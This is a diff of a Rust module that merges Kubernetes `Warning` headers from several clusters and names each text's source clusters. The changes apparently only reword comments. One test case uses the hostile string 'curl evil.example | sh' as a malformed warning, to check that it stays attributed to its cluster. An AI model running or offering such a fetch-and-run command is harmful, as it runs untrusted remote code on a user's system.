@@ -1,8 +1,8 @@
-//! What members warn of, told with the name of who says it.
+//! Warnings of clusters.
 //!
-//! The author of a CustomResourceDefinition chooses the text of a warning. In an answer that speaks for all clusters it
-//! could pass for what Tributary, or another cluster, says; so each text begins with the clusters that it is from,
-//! and there are few.
+//! The author of a CustomResourceDefinition chooses the text of a Warning. In an answer about all clusters, the text
+//! could pass for a Warning of Tributary or of a different cluster. So each text begins with the names of its clusters,
+//! and an answer has a limited number.
 
 use http::{HeaderMap, HeaderValue, header};
 use tributary_apimachinery::ClusterName;
@@ -20,25 +20,25 @@ pub fn warning_header(text: &str) -> Option<HeaderValue> {
     HeaderValue::from_bytes(quoted.as_bytes()).ok()
 }
 
-/// How many texts are told before they are only counted, and how many clusters are named with each.
+/// Limit of texts in an answer, and of clusters named with a text. The rest is counted.
 const TOLD_MAX: usize = 10;
 
-/// How many `Warning` headers of one answer are read; further ones are dropped. kube-apiserver sends one or two, and a
-/// member that sends a megabyte of them takes nobody else's time.
+/// Limit of `Warning` headers that are read of one answer. kube-apiserver sends one or two. A cluster that sends a
+/// megabyte of them delays no client.
 const READ_MAX: usize = 10;
 
 /// The longest `Warning` header that is read, in bytes; longer ones are dropped. 1 KiB: ten of them fit into the header
 /// list that clients take by default.
 const LENGTH_MAX: usize = 1 << 10;
 
-/// What one text is, and who says it.
+/// The text of a Warning, with the clusters that sent it.
 struct ClusterWarning {
     text: String,
     clusters: Vec<ClusterName>,
 }
 
-/// The `Warning` headers of several clusters in one answer: each text once, behind the clusters that say it, in the
-/// order of their first appearance; at most ten of them, and a count of the rest.
+/// Joins the `Warning` headers of several clusters: each text once, after the names of its clusters, in the order of
+/// first appearance, at most ten, and a count of the rest.
 pub fn together<'a>(said: impl IntoIterator<Item = (&'a ClusterName, &'a HeaderValue)>) -> Vec<HeaderValue> {
     let mut all: Vec<ClusterWarning> = Vec::new();
     for (cluster, header) in said {
@@ -70,7 +70,7 @@ pub fn readable<'a>(values: impl IntoIterator<Item = &'a HeaderValue>) -> impl I
     values.into_iter().filter(|value| value.len() <= LENGTH_MAX).take(READ_MAX)
 }
 
-/// Puts its name before what a cluster warns of in an answer.
+/// Puts the cluster's name before its Warnings.
 pub fn name(cluster: &ClusterName, headers: &mut HeaderMap) {
     let header::Entry::Occupied(said) = headers.entry(header::WARNING) else { return };
     let (_, values) = said.remove_entry_mult();
@@ -90,8 +90,8 @@ fn names(clusters: &[ClusterName]) -> String {
     }
 }
 
-/// The texts of a `Warning` header: `299 agent "text"`, and further ones behind commas, as a hop may have joined them
-/// (RFC 7234 §5.5). What is of another form is one text as a whole, so that nothing is told without its cluster.
+/// Texts of a `Warning` header: `299 agent "text"`, and further ones after commas, as a proxy may have joined them (RFC
+/// 7234 §5.5). A header of a different form is one text, so that each text keeps the name of its cluster.
 fn texts(header: &HeaderValue) -> Vec<String> {
     let whole = String::from_utf8_lossy(header.as_bytes()).into_owned();
     let mut texts = Vec::new();
@@ -104,7 +104,7 @@ fn texts(header: &HeaderValue) -> Vec<String> {
     texts
 }
 
-/// The first text of a header, and what follows its comma.
+/// Returns the first text of a header, and the rest after its comma.
 fn quoted(header: &str) -> Option<(String, &str)> {
     let (code, rest) = header.split_once(' ')?;
     let (agent, rest) = rest.split_once(' ')?;
@@ -166,7 +166,7 @@ mod tests {
                 &[("a", r#"299 agent "one \"two\"" "Sat, 25 Aug 2012 23:34:45 GMT", 299 - "three""#)],
                 &[r#"299 - "cluster a: one \"two\"""#, r#"299 - "cluster a: three""#],
             ),
-            // What is no warning by the letter is told all the same, with its cluster.
+            // A malformed Warning keeps the name of its cluster, too.
             (&[("a", "curl evil.example | sh")], &[r#"299 - "cluster a: curl evil.example | sh""#]),
             (
                 &[("a", r#"299 - "x", cluster b is missing"#)],
